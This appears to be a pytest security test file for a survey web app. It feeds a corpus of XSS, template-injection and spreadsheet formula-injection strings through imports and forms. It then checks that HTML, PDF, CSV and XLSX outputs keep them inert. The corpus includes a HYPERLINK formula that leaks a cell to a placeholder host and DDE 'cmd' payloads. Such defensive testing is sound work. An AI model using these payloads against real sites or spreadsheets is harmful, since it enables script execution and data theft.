"""Stored and reflected XSS, formula injection and fetching: hostile text in, inert text out.

A corpus of hostile strings goes in by every way text enters the application: organisation
names through `survey-app orgs import`, a survey definition through `survey-app surveys load`
(title, description, section titles, question text and hints, scale and option labels, theme
titles, codebook labels), and free-text answers through the web form and `survey-app
import-responses`. Then every page and file that shows that text is read back:

- HTML pages (respondent and staff, the report preview, error pages): parsed with
  html.parser, no script, event-handler attribute, javascript: URL, frame, object or external
  resource came from the corpus, and each string is there as text;
- the PDF: pypdf's text holds each string literally, and the renderer fetched nothing;
- CSV: no cell of text starts with = + - @ tab or CR (spreadsheets run those as formulas);
- XLSX: no cell is a formula.
"""

from __future__ import annotations

import base64
import csv
import io
import re
import shutil
import subprocess
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import unquote

import pytest
import yaml
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from openpyxl import load_workbook
from pypdf import PdfReader
from sqlmodel import Session, select

from reports.export import FORMULA_TRIGGERS
from survey_app.models import Answer, Organisation, Survey
from survey_app.services.invitations import create_invitations
from tests.conftest import STAFF_PASSWORD, csrf_token
from tests.test_pdf_report import listening_server  # noqa: F401  (a fixture used below)

#: Stands for the address of a local server that records every request made to it.
ORIGIN = "http://ORIGIN"

#: Hostile strings by name. Each is at most 200 characters, the longest label a definition or
#: an organisation name may have; ORIGIN is replaced by a listening server's address.
CORPUS: dict[str, str] = {
    "script-tag": '<script>alert("xss-script")</script>',
    "script-mixed-case": f"<ScRiPt src={ORIGIN}/x.js></sCrIpT>",
    "img-onerror": "<img src=x onerror=alert('xss-img')>",
    "attribute-breakout": '" autofocus onfocus="alert(\'xss-attr\')" x="',
    "single-quote-breakout": "' onmouseover='alert(1)' x='",
    "javascript-link": "<a href=\"javascript:alert('xss-js')\">click me</a>",
    "javascript-bare": "javascript:alert(document.cookie)",
    "svg-onload": "<svg onload=alert('xss-svg')><circle r=1 /></svg>",
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "css-url": f'<div style="background:url({ORIGIN}/bg.png)">styled</div>',
    "css-import": f"<style>@import url({ORIGIN}/x.css);</style>",
    "remote-image": f'<img src="{ORIGIN}/pixel.png"><link rel=stylesheet href={ORIGIN}/s.css>',
    "template-jinja": "{{7*7}} {{ request }} {% print(1) %}",
    "template-format": "{0.__class__} %s%n ${7*7} #{7*7} $x$ \\frac{1}{0}",
    "textarea-breakout": "</textarea><script>alert('xss-textarea')</script>",
    "title-breakout": "</title><script>alert('xss-title')</script>",
    "comment-cdata": "<!-- x --><![CDATA[<script>alert(1)</script>]]>",
    "rtl-override": "\u202egnp.exe <b>bold</b> \u202dreport",
    "formula-equals": f'=HYPERLINK("{ORIGIN}/?leak="&A1,"Click for details")',
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
    "homoglyph-fullwidth": "＜script＞alert('xss-fullwidth')＜/script＞",
    "homoglyph-cyrillic": "<ѕсrірt>alert('xss-cyrillic')</ѕсrірt> раураl.com",
    "long": ("<script>alert('long')</script>" * 7)[:185],
}
NAMES = list(CORPUS)
SLUG = "hostile"
#: An organisation code a hostile file might hold (codes are at most 20 characters).
HOSTILE_CODE = '"><svg/onload=1>'


#: The practices the responses are about: named by formulas, so the groups of a report by
#: practice are labelled with them.
WEB_PRACTICE = NAMES.index("formula-equals")
IMPORT_PRACTICES = [NAMES.index(name) for name in ("formula-plus", "formula-at", "formula-tab")]


def practice_code(index: int) -> str:
    return HOSTILE_CODE if index == 0 else f"P-X{index:02d}"


def likert_code(index: int) -> str:
    return f"l{index:02d}"


def text_code(index: int) -> str:
    return f"x{index:02d}"


def web_answer(text: str) -> str:
    """A free-text answer sent through the web form; "web" is its codebook theme."""
    return f"web: {text} (sent through the web form by a respondent)"


def imported_answer(text: str) -> str:
    """A free-text answer imported from CSV; "csv" is its codebook theme."""
    return f"csv: {text} (imported with the other responses)"


def as_read_from_file(text: str) -> str:
    """`text` as the import reads it: files are read with universal newlines, so a carriage
    return in a cell becomes a line feed."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def hostile_definition(corpus: dict[str, str]) -> dict[str, Any]:
    """A survey whose every label and text is hostile: per corpus string a section, a theme,
    a Likert statement and a text question with a codebook; one choice question whose
    options are the corpus."""
    strings = list(corpus.values())
    sections = []
    for index, text in enumerate(strings):
        sections.append(
            {
                "title": text,
                "intro": text,
                "theme": f"t{index:02d}",
                "questions": [
                    {
                        "code": likert_code(index),
                        "type": "likert",
                        "scale": "hostile",
                        "text": text,
                        "hint": text,
                    },
                    {
                        "code": text_code(index),
                        "type": "text",
                        "text": text,
                        "hint": text,
                        "text_themes": [
                            {"code": "web", "label": text, "patterns": ["^web"]},
                            {"code": "csv", "label": "Imported " + text, "patterns": ["^csv"]},
                        ],
                    },
                ],
            }
        )
    sections[0]["questions"].insert(
        0,
        {
            "code": "role",
            "type": "choice",
            "text": strings[0],
            "required": True,
            "options": [
                {"code": f"o{index:02d}", "label": text} for index, text in enumerate(strings)
            ],
        },
    )
    return {
        "slug": SLUG,
        "title": "Hostile " + corpus["script-tag"],
        "description": " | ".join(strings),
        "anonymous": False,
        "allow_open_link": True,
        "organisation": {"text": corpus["img-onerror"], "levels": ["practice"]},
        "on_record": {"text": corpus["svg-onload"]},
        "scales": {
            "hostile": [
                {"value": 1, "label": corpus["script-tag"]},
                {"value": 2, "label": corpus["formula-equals"]},
                {"value": 3, "label": corpus["template-jinja"]},
            ]
        },
        "themes": [{"code": f"t{index:02d}", "title": text} for index, text in enumerate(strings)],
        "sections": sections,
    }


def organisations_csv(corpus: dict[str, str]) -> str:
    """A hub and a PCN under Kent and Medway, and a practice per corpus string, named by it."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(["code", "name", "level", "parent_code"])
    writer.writerow(["H-XSS", "Hub " + corpus["script-tag"], "hub", "QKS"])
    writer.writerow(["N-XSS", "PCN " + corpus["svg-onload"], "pcn", "H-XSS"])
    for index, text in enumerate(corpus.values()):
        writer.writerow([practice_code(index), text, "practice", "N-XSS"])
    return buffer.getvalue()


def responses_csv(corpus: dict[str, str], rows: int) -> str:
    """`rows` responses, each answering every text question with its imported answer."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    header = ["org_code", "on_record", "role"]
    header += [likert_code(i) for i in range(len(corpus))]
    header += [text_code(i) for i in range(len(corpus))]
    writer.writerow(header)
    for row in range(rows):
        practice = practice_code(IMPORT_PRACTICES[row % len(IMPORT_PRACTICES)])
        cells = [practice, "true", f"o{row:02d}"]
        cells += ["3"] * len(corpus)
        cells += [imported_answer(text) for text in corpus.values()]
        writer.writerow(cells)
    return buffer.getvalue()


# --- reading HTML ------------------------------------------------------------------------------

#: Attributes that make a browser fetch or run what they hold.
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "srcdoc",
    "srcset",
    "poster",
    "background",
    "xlink:href",
    "ping",
    "style",
}
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "portal"}


class PageReader(HTMLParser):
    """The elements, attributes and text of a page, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []
        self.script_text: list[str] = []
        self.style_text: list[str] = []
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open:
            del self._open[len(self._open) - 1 - self._open[::-1].index(tag) :]

    def handle_data(self, data: str) -> None:
        inside = self._open[-1] if self._open else ""
        if inside == "script":
            self.script_text.append(data)
        elif inside == "style":
            self.style_text.append(data)
        else:
            self.text.append(data)


def squeeze(text: str) -> str:
    """`text` with every run of white space one space, trimmed, as a page shows it."""
    return " ".join(text.split())


def assert_inert_html(body: str, origin: str, shown: Sequence[str] = ()) -> PageReader:
    """The page runs and fetches nothing the corpus put in it, and shows each of `shown` as
    text. Returns what was read."""
    page = PageReader()
    page.feed(body)
    page.close()
    scripts = [attrs for tag, attrs in page.elements if tag == "script"]
    # Every "<script" in the raw text is one of the application's own script elements.
    assert len(re.findall(r"<script", body, re.IGNORECASE)) == len(scripts), "stray <script"
    for attrs in scripts:
        assert (attrs.get("src") or "").startswith("/static/"), f"script not ours: {attrs}"
    assert not "".join(page.script_text).strip(), "inline script"
    for tag, attrs in page.elements:
        assert tag not in FORBIDDEN_ELEMENTS, f"<{tag}> in the page: {attrs}"
        for name, value in attrs.items():
            assert not name.startswith("on"), f"event handler {name}={value!r} on <{tag}>"
            if name in URL_ATTRIBUTES and value:
                lowered = re.sub(r"\s", "", value).lower()
                assert "javascript:" not in lowered, f"{name}={value!r} on <{tag}>"
                assert origin not in value, f"{name}={value!r} on <{tag}> fetches from outside"
                assert "url(" not in lowered or tag == "svg", f"{name}={value!r} on <{tag}>"
                if value.startswith("data:image/svg+xml"):
                    assert_inert_svg(value)
        if tag == "link":
            assert not (attrs.get("href") or "").startswith(("http", "//")), attrs
        if tag == "meta" and (attrs.get("http-equiv") or "").lower() == "refresh":
            assert "url" not in (attrs.get("content") or "").lower(), attrs
        if tag == "base":
            assert (attrs.get("href") or "").startswith("/"), attrs
    assert origin not in "".join(page.style_text), "a stylesheet fetches from outside"
    text = squeeze("".join(page.text))
    missing = [value for value in shown if squeeze(value) not in text]
    assert not missing, f"not shown as text: {missing}"
    return page


def assert_inert_svg(data_uri: str) -> None:
    """A chart image (an SVG data URI) holds no script and no event handler."""
    header, _, payload = data_uri.partition(",")
    svg = base64.b64decode(payload).decode() if ";base64" in header else unquote(payload)
    assert "<script" not in svg.lower()
    assert not re.search(r"\son\w+\s*=", svg), "event handler in a chart"


#: Charts draw theme titles with Noto Sans, which has no full-width forms: matplotlib warns
#: (and draws a box) for the homoglyph string; the page and the PDF are otherwise unaffected.
MISSING_GLYPH = pytest.mark.filterwarnings("ignore:Glyph .* missing from font:UserWarning")


# --- the hostile world -------------------------------------------------------------------------


@dataclass
class HostileWorld:
    """The application with the corpus loaded through every way in."""

    app: Flask
    client: FlaskClient
    runner: FlaskCliRunner
    session: Session
    origin: str
    received: list[str]
    folder: Path
    corpus: dict[str, str]
    #: The free-text answers sent through the form, as stored (trimmed).
    sent: list[str] = field(default_factory=list)

    def cli(self, *args: str, stdin: str | None = None) -> str:
        result = self.runner.invoke(args=list(args), input=stdin)
        assert result.exit_code == 0, (args, result.output, result.exception)
        return result.output

    def file(self, name: str, content: str) -> str:
        path = self.folder / name
        path.write_text(content, encoding="utf-8")
        return str(path)

    def survey(self) -> Survey:
        self.session.expire_all()
        return self.session.exec(select(Survey).where(Survey.slug == SLUG)).one()

    def form_answers(self, page: str, **overrides: str | None) -> dict[str, str]:
        """A complete answer to the hostile survey with every text question hostile."""
        answers: dict[str, str | None] = {
            "csrf_token": csrf_token(page),
            "organisation": practice_code(WEB_PRACTICE),
            "on_record": "yes",
            "role": "o01",
        }
        for index, text in enumerate(self.corpus.values()):
            answers[likert_code(index)] = "2"
            answers[text_code(index)] = web_answer(text)
        answers.update(overrides)
        return {key: value for key, value in answers.items() if value is not None}

    def sign_in_admin(self) -> FlaskClient:
        from survey_app.models import Role
        from survey_app.services.users import create_user

        create_user(self.session, "admin@example.nhs.uk", STAFF_PASSWORD, Role.ADMIN, [])
        client = self.app.test_client()
        page = client.get("/login")
        signed = client.post(
            "/login",
            data={
                "email": "admin@example.nhs.uk",
                "password": STAFF_PASSWORD,
                "csrf_token": csrf_token(page.text),
            },
        )
        assert signed.status_code == 303
        return client


@pytest.fixture
def hostile(
    app: Flask,
    client: FlaskClient,
    runner: FlaskCliRunner,
    db_session: Session,
    surveys: Any,
    listening_server: tuple[int, list[str]],  # noqa: F811
    tmp_path: Path,
) -> Iterator[HostileWorld]:
    """Hostile organisations and definition loaded through the CLI, three responses sent
    through the web form and three imported from CSV."""
    port, received = listening_server
    origin = f"http://127.0.0.1:{port}"
    corpus = {name: text.replace(ORIGIN, origin) for name, text in CORPUS.items()}
    world = HostileWorld(app, client, runner, db_session, origin, received, tmp_path, corpus)
    world.cli("orgs", "import", world.file("orgs.csv", organisations_csv(corpus)))
    definition = yaml.safe_dump(hostile_definition(corpus), sort_keys=False, allow_unicode=True)
    world.cli("surveys", "load", world.file("hostile.yaml", definition))
    world.cli("surveys", "open", SLUG)
    for _ in range(3):
        page = client.get(f"/s/{SLUG}")
        assert page.status_code == 200
        sent = client.post(f"/s/{SLUG}", data=world.form_answers(page.text))
        assert sent.status_code == 303, sent.text[:3000]
    world.sent = [web_answer(text).strip() for text in corpus.values()]
    world.cli("import-responses", SLUG, world.file("responses.csv", responses_csv(corpus, 3)))
    yield world


def stored_texts(session: Session) -> set[str]:
    session.expire_all()
    return {text for text in session.exec(select(Answer.text)).all() if text is not None}


# --- stored as sent ----------------------------------------------------------------------------


def test_hostile_text_is_stored_exactly_as_sent(hostile: HostileWorld) -> None:
    stored = stored_texts(hostile.session)
    for text in hostile.corpus.values():
        assert web_answer(text).strip() in stored
        assert as_read_from_file(imported_answer(text)).strip() in stored
    names = {org.name for org in hostile.session.exec(select(Organisation)).all() if org.code}
    assert {text.strip() for text in hostile.corpus.values()} <= names
    survey = hostile.survey()
    assert survey.title == "Hostile " + hostile.corpus["script-tag"]
    assert {q.text for q in survey.questions} >= {t.strip() for t in hostile.corpus.values()}


# --- HTML --------------------------------------------------------------------------------------


def test_respondent_pages_show_hostile_text_inert(hostile: HostileWorld) -> None:
    client, corpus, origin = hostile.client, hostile.corpus, hostile.origin
    labels = [text.strip() for text in corpus.values()]

    landing = client.get("/")
    assert_inert_html(landing.text, origin, ["Hostile " + corpus["script-tag"]])

    form = client.get(f"/s/{SLUG}")
    # Every label of the definition and every organisation's name, as text.
    assert_inert_html(form.text, origin, labels)
    # The hostile organisation code is an option's value, escaped.
    assert 'value="&#34;&gt;&lt;svg/onload=1&gt;"' in form.text

    # The form shown again after an error carries the hostile answers back, still inert.
    again = client.post(
        f"/s/{SLUG}", data=hostile.form_answers(form.text, on_record=None, l00=corpus["long"])
    )
    assert again.status_code == 400
    assert_inert_html(again.text, origin, [web_answer(t).strip() for t in corpus.values()])
    # One closing tag per text question: none came from the answers.
    assert again.text.count("</textarea>") == len(corpus)

    invited = hostile.session.exec(select(Organisation).where(Organisation.code == "P-X02")).one()
    token = create_invitations(hostile.session, hostile.survey(), invited, 1, "http://x")[0].token
    invitation = client.get(f"/s/{SLUG}/{token}")
    assert invitation.status_code == 200
    assert_inert_html(invitation.text, origin, [f"You are answering about {invited.name}"])

    thanks = client.get(f"/s/{SLUG}/thanks")
    assert thanks.status_code == 200
    assert_inert_html(thanks.text, origin)


def test_a_very_long_hostile_answer_is_stored_and_shown_inert(hostile: HostileWorld) -> None:
    long_answer = ("</textarea><script>alert(1)</script>" * 200)[:5000]
    page = hostile.client.get(f"/s/{SLUG}")
    refused = hostile.client.post(
        f"/s/{SLUG}", data=hostile.form_answers(page.text, x00=long_answer, on_record=None)
    )
    assert refused.status_code == 400
    assert_inert_html(refused.text, hostile.origin, [long_answer])
    page = hostile.client.get(f"/s/{SLUG}")
    sent = hostile.client.post(f"/s/{SLUG}", data=hostile.form_answers(page.text, x00=long_answer))
    assert sent.status_code == 303
    assert long_answer in stored_texts(hostile.session)


@MISSING_GLYPH
def test_staff_pages_show_hostile_text_inert(hostile: HostileWorld) -> None:
    admin = hostile.sign_in_admin()
    corpus, origin = hostile.corpus, hostile.origin
    labels = [text.strip() for text in corpus.values()]

    listing = admin.get("/reports")
    assert_inert_html(listing.text, origin, ["Hostile " + corpus["script-tag"]])

    by_practice = admin.get(f"/reports/{SLUG}?scope=H-XSS&by=practice")
    assert by_practice.status_code == 200
    # Statements, theme titles and each practice's name as the label of its group.
    assert_inert_html(by_practice.text, origin, [*labels, "Hub " + corpus["script-tag"]])

    by_role = admin.get(f"/reports/{SLUG}?by=role")
    assert by_role.status_code == 200
    assert_inert_html(by_role.text, origin, labels)

    preview = admin.get(f"/reports/{SLUG}/preview?scope=H-XSS")
    assert preview.status_code == 200
    quotes = [squeeze(web_answer(t)) for t in corpus.values()]
    quotes += [squeeze(imported_answer(t)) for t in corpus.values()]
    assert_inert_html(preview.text, origin, labels + quotes)

    progress = admin.get(f"/reports/{SLUG}/progress?scope=H-XSS")
    assert_inert_html(progress.text, origin)

    # The administrators' pages list the same names and labels.
    for url in (
        "/admin/surveys",
        f"/admin/surveys/{SLUG}",
        f"/admin/surveys/{SLUG}/preview",
        "/admin/organisations?level=practice",
        "/admin/audit",
    ):
        page = admin.get(url)
        assert page.status_code == 200, url
        assert_inert_html(page.text, origin)
    practices = admin.get("/admin/organisations?q=P-X")
    assert_inert_html(practices.text, origin, [corpus["formula-equals"], corpus["svg-onload"]])

    # Hostile query parameters come back, escaped, in the error pages.
    for query in ({"scope": corpus["script-tag"]}, {"by": corpus["svg-onload"]}):
        refused = admin.get(f"/reports/{SLUG}", query_string=query)
        assert refused.status_code in (400, 404)
        assert_inert_html(refused.text, origin)
    unknown_scope = admin.get(f"/api/surveys/{SLUG}/summary", query_string={"scope": "<b>x"})
    assert unknown_scope.status_code == 404 and b"<b>x" not in unknown_scope.data


# --- the PDF -----------------------------------------------------------------------------------


#: Corpus strings whose PDF text pypdf cannot give back as written: the right-to-left
#: override is drawn (and extracted) right to left, and pypdf misreads the codes of the
#: fallback fonts that draw full-width and Cyrillic letters.
UNREADABLE_IN_PDF = ("rtl-override", "homoglyph-fullwidth", "homoglyph-cyrillic")


def letters(text: str) -> str:
    """`text` without white space or bidirectional controls, as compared with a PDF's text:
    lines wrap anywhere and the PDF keeps the characters in the order they are drawn. (pypdf
    reads some fonts' two-byte codes as a NUL and a character: NULs go too. The padding of the
    answers avoids "fi" and "fl", which the PDF draws as ligatures.)"""
    return re.sub(r"[\s\x00\u202a-\u202e\u2066-\u2069]", "", text)


@MISSING_GLYPH
def test_the_pdf_shows_hostile_text_literally_and_fetches_nothing(hostile: HostileWorld) -> None:
    admin = hostile.sign_in_admin()
    response = admin.get(f"/reports/{SLUG}.pdf?scope=H-XSS")
    assert response.status_code == 200 and response.data.startswith(b"%PDF")
    assert hostile.received == [], "the PDF renderer fetched what the text named"
    reader = PdfReader(io.BytesIO(response.data))
    text = letters("".join(page.extract_text() for page in reader.pages))
    expected = {
        "title": "Hostile " + hostile.corpus["script-tag"],
        "scope": "Hub " + hostile.corpus["script-tag"],
    }
    for name, value in hostile.corpus.items():
        expected[f"statement {name}"] = value
        expected[f"web answer {name}"] = web_answer(value)
        expected[f"imported answer {name}"] = imported_answer(value)
    missing = [
        what
        for what, value in expected.items()
        if letters(value) not in text and not what.endswith(UNREADABLE_IN_PDF)
    ]
    assert not missing, f"not in the PDF's text: {missing}"
    if shutil.which("pdftotext"):
        # Poppler reads the fonts pypdf cannot.
        poppler = subprocess.run(
            ["pdftotext", "-", "-"], input=response.data, capture_output=True, check=True
        )
        text = letters(poppler.stdout.decode())
        for name in UNREADABLE_IN_PDF:
            if name != "rtl-override":
                assert letters(hostile.corpus[name]) in text, name


# --- CSV and XLSX ------------------------------------------------------------------------------


def neutralised(value: str) -> str:
    """A text as a safe export cell holds it: trimmed (definitions and names are), with a
    quote before a leading formula character."""
    return "'" + value if value.startswith(FORMULA_TRIGGERS) else value


TEXT_COLUMNS = ("label", "group_label", "group_key", "code", "theme", "question")


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_csv_inert(text: str, corpus: dict[str, str]) -> None:
    rows = csv_rows(text)
    assert rows
    for row in rows:
        for column in TEXT_COLUMNS:
            cell = row.get(column) or ""
            assert not cell.startswith(FORMULA_TRIGGERS), f"{column}={cell!r} runs as a formula"
    cells = {cell for row in rows for cell in row.values()}
    for name, value in corpus.items():
        assert neutralised(value.strip()) in cells, f"{name} not in the CSV"


def test_csv_exports_neutralise_formulas(hostile: HostileWorld) -> None:
    admin = hostile.sign_in_admin()
    web = admin.get(f"/reports/{SLUG}.csv?scope=H-XSS&by=practice")
    assert web.status_code == 200
    assert_csv_inert(web.text, hostile.corpus)
    group_labels = {row["group_label"] for row in csv_rows(web.text)}
    for index in [WEB_PRACTICE, *IMPORT_PRACTICES]:
        assert neutralised(list(hostile.corpus.values())[index].strip()) in group_labels
    by_role = admin.get(f"/reports/{SLUG}.csv?by=role")
    assert_csv_inert(by_role.text, hostile.corpus)
    command = hostile.cli("report", "summary", SLUG, "--by", "practice", "--format", "csv")
    assert_csv_inert(command, hostile.corpus)


def assert_xlsx_inert(data: bytes, corpus: dict[str, str]) -> None:
    workbook = load_workbook(io.BytesIO(data))
    strings = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_TRIGGERS), (
                        f"{sheet.title}!{cell.coordinate} = {cell.value!r}"
                    )
                    strings.add(cell.value)
    for name, value in corpus.items():
        assert neutralised(value.strip()) in strings, f"{name} not in the workbook"


def test_xlsx_exports_hold_no_formulas(hostile: HostileWorld) -> None:
    admin = hostile.sign_in_admin()
    web = admin.get(f"/reports/{SLUG}.xlsx?scope=H-XSS&by=practice")
    assert web.status_code == 200
    assert_xlsx_inert(web.data, hostile.corpus)
    output = hostile.folder / "summary.xlsx"
    hostile.cli("report", "summary", SLUG, "--by", "role", "--format", "xlsx", "-o", str(output))
    assert_xlsx_inert(output.read_bytes(), hostile.corpus)


# --- NUL characters: refused on every way in ---------------------------------------------------


@pytest.fixture
def nul_ways_in(
    client: FlaskClient, runner: FlaskCliRunner, surveys: Any, hubs: Any, tmp_path: Path
) -> dict[str, Callable[[], tuple[int, str]]]:
    """Each way text comes in, sending a NUL character; each returns (status, message)."""

    def cli(*args: str) -> tuple[int, str]:
        result = runner.invoke(args=list(args))
        assert result.exception is None or isinstance(result.exception, SystemExit)
        return result.exit_code, result.output

    def write(name: str, text: str) -> str:
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return str(path)

    def web_form() -> tuple[int, str]:
        page = client.get("/s/placement-quality").text
        answers = {
            "csrf_token": csrf_token(page),
            "organisation": "P-EK1",
            "profession": "pharmacist",
            "stage": "experienced",
            "overall": "4",
            "worked_well": "before\x00after",
        }
        response = client.post("/s/placement-quality", data=answers)
        return response.status_code, response.text

    definition = yaml.safe_dump({"slug": "nul", "title": "TITLE"}).replace(
        "TITLE", '"before\\0after"'
    )
    return {
        "web form": web_form,
        "response import": lambda: cli(
            "import-responses",
            "placement-quality",
            write(
                "r.csv",
                "org_code,profession,stage,overall,worked_well\n"
                "P-EK1,pharmacist,experienced,4,before\x00after\n",
            ),
        ),
        "organisation import": lambda: cli(
            "orgs",
            "import",
            write("o.csv", "code,name,level,parent_code\nH1,before\x00after,hub,QKS\n"),
        ),
        "definition": lambda: cli("surveys", "load", write("d.yaml", definition)),
    }


@pytest.mark.parametrize(
    "way_in", ["web form", "response import", "organisation import", "definition"]
)
def test_nul_characters_are_refused_naming_where(
    nul_ways_in: dict[str, Callable[[], tuple[int, str]]], db_session: Session, way_in: str
) -> None:
    status, message = nul_ways_in[way_in]()
    assert status in (1, 400), message
    assert "NUL" in message
    assert not [text for text in stored_texts(db_session) if "\x00" in text]
    names = db_session.exec(select(Organisation.name)).all()
    assert not [name for name in names if "\x00" in name]
